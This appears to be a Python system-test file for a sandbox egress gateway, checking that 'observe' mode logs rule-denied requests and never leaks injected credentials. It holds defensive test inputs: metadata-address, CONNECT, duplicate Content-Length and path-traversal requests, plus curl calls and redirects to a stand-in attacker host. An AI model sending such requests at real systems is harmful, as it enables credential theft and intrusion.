"""In mode observe, requests that rules deny pass and are recorded with the reason.

Nothing else passes, and no secret.
"""

import json
import secrets
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, replace
from typing import Any

import pytest
from opensandbox.models.sandboxes import CredentialProxyConfig, NetworkPolicy, NetworkRule

from demo.sandboxes import DemoSandbox, Secrets
from policy.compile import compile_named
from policy.compiled import CompiledPolicy
from policy.load import load
from policy.rules import Mode
from testbed.attacks import Attack, Verdicts, from_sandbox
from testbed.internet import (
    ADDRESSES,
    API,
    ATTACKER,
    GIT,
    INDEX,
    METADATA_ADDRESS,
    SPLICED,
    STATUS,
    Internet,
    received_field,
)
from testbed.leaks import forms_of, leaks_in
from testbed.stack import POLICY
from tests.conftest import ON_RUNC
from tests.stacks import Governed

pytestmark = pytest.mark.system

WATCHING = replace(compile_named(load(POLICY), "watching"), always_deny=("banned.bank.example",))
ENFORCED = replace(WATCHING, lists=tuple(replace(rules, mode=Mode.ENFORCE) for rules in WATCHING.lists))

NEVER = (
    Attack("a name the operator denies", ("GET /@@ HTTP/1.1\r\nHost: banned.bank.example\r\n\r\n",), None, API, 80),
    Attack("a private address", ("GET /@@ HTTP/1.1\r\nHost: private.bank.example\r\n\r\n",), None, STATUS, 80),
    Attack("the host itself", ("GET /@@ HTTP/1.1\r\nHost: the-host.bank.example\r\n\r\n",), None, STATUS, 80),
    Attack("metadata", (f"GET /@@ HTTP/1.1\r\nHost: {METADATA_ADDRESS}\r\n\r\n",), None, METADATA_ADDRESS, 80),
    Attack("a bare address", ("GET /@@ HTTP/1.1\r\nHost: x\r\n\r\n",), None, ATTACKER, options={"sni": None}),
    Attack("TRACE", (f"TRACE /v1/@@ HTTP/1.1\r\nHost: {API}\r\n\r\n",), API),
    Attack("CONNECT", (f"CONNECT {API}:443 HTTP/1.1\r\nHost: {API}:443\r\n\r\n@@",), API),
    Attack("another host on the flow", (f"GET /v1/@@ HTTP/1.1\r\nHost: {GIT}\r\n\r\n",), API),
    Attack(
        "two lengths", (f"POST /v1/@@ HTTP/1.1\r\nHost: {API}\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",)
    ),
    Attack("text on 443", ("hello @@\r\n",), None, STATUS),
    Attack("TLS on 80", ("GET /@@ HTTP/1.1\r\n\r\n",), API, API, 80),
)
"""Requests that are denied in both modes, because the reason is not a rule."""


def _request(method: str, host: str, path: str) -> str:
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: own\r\nConnection: close\r\n\r\n"


READ = (None, API, GIT, INDEX)
"""Server names of flows in which the gateway reads the requests. None means a flow without TLS."""


def _attack(method: str, host: str, path: str, *, tls: bool = True, port: int | None = None) -> Attack:
    """Return one request. If the gateway reads it, the client waits until it has an answer."""
    name = f"{method} {'https' if tls else 'http'}://{host}:{port or ''}{path}"
    number, sni = port or (443 if tls else 80), host if tls else None
    options = {"patience": 120} if number in (80, 443) and sni in READ else {}
    return Attack(name, (_request(method, host, path),), sni, host, number, options=options)


REQUESTS = (
    *(_attack(word, API, p) for word in ("GET", "POST", "PUT", "DELETE", "HEAD") for p in ("/v1/@@", "/admin/@@")),
    *(
        _attack("GET", API, p)
        for p in ("/v1/../admin/@@", "/v1//@@", "/v1/%2e%2e/@@", "/V1/@@", "/v1;a/@@", "/v1%2f@@")
    ),
    *(
        _attack(word, GIT, p)
        for word in ("GET", "POST", "DELETE", "PATCH")
        for p in ("/ledger.git/@@", "/other/@@", "/ledger.git/secret/@@")
    ),
    *(_attack(word, INDEX, "/simple/@@") for word in ("GET", "HEAD", "POST", "DELETE", "PUT")),
    *(_attack("GET", host, "/v1/@@", tls=False) for host in (API, GIT, INDEX, STATUS, ATTACKER, SPLICED)),
    *(_attack("POST", host, "/v1/@@", tls=False) for host in (API, GIT, INDEX, STATUS, ATTACKER)),
    *(_attack("GET", host, "/v1/@@") for host in (STATUS, ATTACKER, SPLICED)),
    *(_attack("GET", host, "/v1/@@", port=8443) for host in (STATUS, ATTACKER, API)),
    *(_attack("GET", host, "/v1/@@", tls=False, port=8080) for host in (STATUS, ATTACKER, API)),
)
INSPECTED = tuple(one for one in REQUESTS if one.port in (80, 443) and one.tls in READ)
NAMES = (API, STATUS, ATTACKER, "nowhere.attacker.example", "t.attacker.example", "banned.bank.example")


@dataclass(frozen=True, slots=True)
class Both:
    """The results of the same requests and names in both modes, with their records."""

    enforced: Verdicts
    observed: Verdicts
    sandbox: str


@pytest.fixture(params=ON_RUNC, name="runtime")
def _runtime(request: pytest.FixtureRequest) -> str:
    name: str = request.param
    return name


@pytest.fixture(scope="module", name="stack")
def _stack(governed: Governed) -> Governed:
    """Return the stack whose hostd accepts any policy."""
    return governed


@pytest.fixture(scope="module", name="internet")
def _internet(governed: Governed) -> Internet:
    return governed.internet


@pytest.fixture(scope="module", name="watchers")
def _watchers(stack: Governed, some_runtimes: tuple[str, ...]) -> Iterator[dict[str, Any]]:
    made: dict[str, Any] = {}
    try:
        for runtime in some_runtimes:
            made[runtime] = stack.create(runtime, policy="watching")
        yield made
    finally:
        for sandbox in made.values():
            sandbox.kill()
            sandbox.close()


@pytest.fixture(scope="module", name="outcomes")
def _outcomes(internet: Internet, stack: Governed, watchers: dict[str, Any]) -> dict[str, Both]:
    def run(sandbox: Any, policy: CompiledPolicy) -> Verdicts:
        stack.configure(str(sandbox.id), policy)
        before = len(_records(stack, str(sandbox.id)))
        for name in NAMES:
            sandbox.commands.run(f"getent ahostsv4 {name}")
        verdicts = from_sandbox((*REQUESTS, *NEVER), internet, stack, str(sandbox.id))
        assert [] == [one.name for one in INSPECTED if verdicts.answers[one.name]["error"] == "TimeoutError"]
        return replace(verdicts, records=_records(stack, str(sandbox.id))[before:])

    def both(sandbox: Any) -> Both:
        return Both(run(sandbox, ENFORCED), run(sandbox, WATCHING), str(sandbox.id))

    with ThreadPoolExecutor() as pool:
        return dict(zip(watchers, pool.map(both, watchers.values()), strict=True))


@pytest.fixture(name="both")
def _both(outcomes: dict[str, Both], runtime: str) -> Both:
    return outcomes[runtime]


def _records(stack: Governed, sandbox: str) -> list[dict[str, Any]]:
    return [record for record in stack.audit_records() if record.get("sandbox") == sandbox]


def _verdicts(records: list[dict[str, Any]], decision: str, rule: str) -> set[tuple[str, ...]]:
    return {
        (str(record.get("host")), str(record.get(rule)), str(record["reason"]))
        for record in records
        if record["decision"] == decision and record["kind"] in ("dns", "flow", "connect", "request")
    }


def test_observe_tells_exactly_what_enforce_denies(both: Both) -> None:
    """Host, rule and reason are equal. A denial whose reason is not a rule is a denial in both modes."""
    denied = _verdicts(both.enforced.records, "deny", "rule")
    observed = _verdicts(both.observed.records, "observe", "observed")
    still = _verdicts(both.observed.records, "deny", "rule")

    assert len(REQUESTS) >= 50
    assert set() == _verdicts(both.enforced.records, "observe", "observed")
    assert denied - still == observed - still
    assert {host for host, *_ in observed} >= {API, GIT, INDEX, STATUS, ATTACKER, SPLICED}
    assert {rule for _, rule, _ in observed} == {
        "default",
        "ambiguous-path",
        "watching/no-secrets",
        "watching/not-there",
    }
    assert {rule for _, rule, _ in still} >= {
        "always-deny:1",
        "address-class:private",
        "address-class:own",
        "protocol",
        "request-head",
    }
    assert {("dns", ATTACKER), ("flow", ATTACKER), ("request", API)} <= {
        (record["kind"], record["host"]) for record in both.observed.records if record["decision"] == "observe"
    }
    assert {"observe:watching"} == {
        record["rule"] for record in both.observed.records if record["decision"] == "observe"
    }


def test_what_is_observed_arrives_and_what_is_enforced_does_not(both: Both) -> None:
    """The servers are the judge: every well-formed request of the list arrives in mode observe."""
    arrived = {attack.name for attack in REQUESTS if both.observed.arrived(attack)}
    kept = {attack.name for attack in REQUESTS if both.enforced.arrived(attack)}
    unserved = {attack.name for attack in REQUESTS if attack.port == 8080 or (attack.host, attack.port) == (API, 8443)}
    raw = {attack.name for attack in REQUESTS if attack.host in (SPLICED, ATTACKER) and attack.port in (443, 8443)}

    assert {attack.name for attack in REQUESTS} - arrived <= unserved | raw
    assert kept < arrived
    assert kept == {
        *(f"{word} https://{API}:/v1/@@" for word in ("GET", "POST")),
        *(f"{word} https://{GIT}:/ledger.git/@@" for word in ("GET", "POST")),
        *(f"{word} https://{INDEX}:/simple/@@" for word in ("GET", "HEAD")),
        *(f"{word} http://{STATUS}:/v1/@@" for word in ("GET", "POST")),
        f"GET https://{STATUS}:/v1/@@",
    }


def test_no_secret_goes_where_no_rule_sends_it(both: Both, values: Secrets) -> None:
    """A request that a rule allows has the secret. All others have the field that the sandbox sent."""
    allowed = {(API, "GET"), (API, "POST"), (GIT, "GET"), (GIT, "POST"), (INDEX, "GET"), (INDEX, "HEAD")}
    carried: set[str] = set()
    for attack in REQUESTS:
        mark = both.observed.marks[attack.name]
        for note in both.observed.noted:
            if "target" not in note or mark not in json.dumps(note):
                continue
            if received_field(note, "Authorization") != "own":
                carried.add(attack.name)
                assert (attack.host, attack.port, note["method"] in ("GET", "POST", "HEAD")) == (
                    note["host"],
                    443,
                    True,
                )
    assert carried == {attack.name for attack in REQUESTS if both.enforced.arrived(attack) and attack.host != STATUS}
    assert {(name.split()[1].split("/")[2].rstrip(":"), name.split()[0]) for name in carried} == allowed
    uses = {(record["host"], record["rule"]) for record in both.observed.records if record["kind"] == "secret.use"}
    assert {(API, "agents/api"), (GIT, "agents/ledger"), (INDEX, "agents/packages")} == uses


def test_observe_lets_nothing_else_pass(both: Both) -> None:
    """The operator's denials, requests to addresses that are not public, and malformed requests arrive in no mode."""
    for attack in NEVER:
        assert [] == both.observed.arrived(attack), attack.name
        assert not [note for note in both.observed.noted if both.observed.marks[attack.name] in json.dumps(note)]
    public = {*ADDRESSES.values()}
    gated = [frame for frame in both.observed.data_frames() if frame.source == "93.184.217.1"]
    assert gated
    assert {frame.destination for frame in gated} <= public


def test_answers_are_scrubbed_and_redirects_are_judged_again(
    stack: Governed, watchers: dict[str, Any], runtime: str, internet: Internet, values: Secrets
) -> None:
    """The server echoes the secret or redirects the client, on one connection with observed requests."""
    sandbox = watchers[runtime]
    stack.configure(str(sandbox.id), WATCHING)
    mark = f"r{secrets.token_hex(6)}"
    command = (
        f"curl -sS -i --max-time 20 https://{API}/v1/{mark} https://{API}/admin/{mark} https://{API}/v1/{mark}2; "
        f"curl -sS -i -L --max-time 20 'https://{API}/v1/redirect?to=attacker&status=302&{mark}'; "
        f"curl -sS -i -L --max-time 20 'https://{API}/v1/redirect?to=plain&status=307&{mark}'"
    )
    before = len(internet.notes())
    done = sandbox.commands.run(command)
    printed = "".join(message.text for message in (*done.logs.stdout, *done.logs.stderr))
    notes = internet.notes()[before:]
    seen = [
        (
            note["host"],
            note["target"].partition("?")[0],
            received_field(note, "Authorization") == f"Bearer {values.api}",
        )
        for note in notes
        if "target" in note
    ]

    assert [
        (API, f"/v1/{mark}", True),
        (API, f"/admin/{mark}", False),
        (API, f"/v1/{mark}2", True),
        (API, "/v1/redirect", True),
        (ATTACKER, "/taken", False),
        (API, "/v1/redirect", True),
        (API, "/v1/plain", False),
    ] == seen
    assert "token_base64" in printed
    assert [0] * len(values.values) == [leaks_in([printed.encode()], forms_of(value)) for value in values.values]


def test_a_binding_of_the_api_follows_the_rules_that_only_observe(
    stack: Governed, runtime: str, internet: Internet
) -> None:
    """The named policy observes; the caller's own policy allows and binds.

    Only hosts that named rules allow get the secret.
    """
    value = f"bound-{secrets.token_hex(20)}"
    rules = [NetworkRule(action="allow", target=host) for host in (STATUS, ATTACKER)]
    sandbox = stack.create(
        runtime,
        policy="watching",
        network_policy=NetworkPolicy(defaultAction="deny", egress=rules),
        credential_proxy=CredentialProxyConfig(enabled=True),
    )
    try:
        sandbox.credential_vault.create(
            credentials=[{"name": "own", "source": {"type": "inline", "value": value}}],
            bindings=[
                {"name": name, "match": {"hosts": [host]}, "auth": {"type": "bearer", "credential": "own"}}
                for name, host in (("status", STATUS), ("attacker", ATTACKER))
            ],
        )
        mark = f"b{secrets.token_hex(6)}"
        for host in (STATUS, ATTACKER):
            sandbox.commands.run(f"curl -sS --max-time 20 https://{host}/{mark}")
        notes = [note for note in internet.notes() if mark in json.dumps(note)]
    finally:
        sandbox.kill()
        sandbox.close()

    carried = {note["host"]: received_field(note, "Authorization") for note in notes if "target" in note}
    assert {STATUS: f"Bearer {value}", ATTACKER: None} == carried


def test_the_log_says_what_would_have_been_denied(both: Both, stack: Governed) -> None:
    lines = stack.sallyport("audit", "tail", "--denied", "--sandbox", both.sandbox).splitlines()
    told = [line for line in lines if " OBSERVE " in line and f"https://{API}:443/admin/" in line]

    assert told
    assert "observed=default" in told[0]
    assert "is allowed, but not" in told[0]


@pytest.mark.parametrize("attack", INSPECTED[::12], ids=lambda attack: attack.name)
def test_explain_says_what_a_gateway_in_mode_observe_did(
    attack: Attack, outcomes: dict[str, Both], stack: Governed
) -> None:
    """The output of the command must agree with the records of the same request."""
    scheme = "http" if attack.tls is None else "https"
    method, path = str(attack.send[0]).split()[:2]
    words = stack.sallyport(
        *("policy", "explain", "--policy", "watching", "--host", attack.host, "--port", str(attack.port)),
        *("--scheme", scheme, "--method", method, "--path", path),
    )
    observed = outcomes["runc"].observed
    flows = {
        record.get("flow") for record in observed.records if observed.marks[attack.name] in str(record.get("path"))
    }
    decisions = {record["decision"] for record in observed.records if record.get("flow") in flows}

    assert flows
    assert ("observe" in decisions) == ("would be denied by" in words)
    assert ("secret.use" in {one["kind"] for one in observed.records if one.get("flow") in flows}) == (
        "  inject " in words
    )


def test_a_sandbox_that_only_observes_is_no_way_into_others(
    stack: Governed, watchers: dict[str, Any], values: Secrets, runtime: str
) -> None:
    """The control: next to an observing sandbox, an enforced sandbox is denied the same requests."""
    assert runtime in watchers
    enforced = DemoSandbox(stack, runtime, values)
    try:
        _, printed = enforced.run(f"curl -sS --max-time 10 https://{API}/admin/x; curl -sS http://{ATTACKER}/")
    finally:
        enforced.close()
    assert "default" in printed
    assert "this is" not in printed
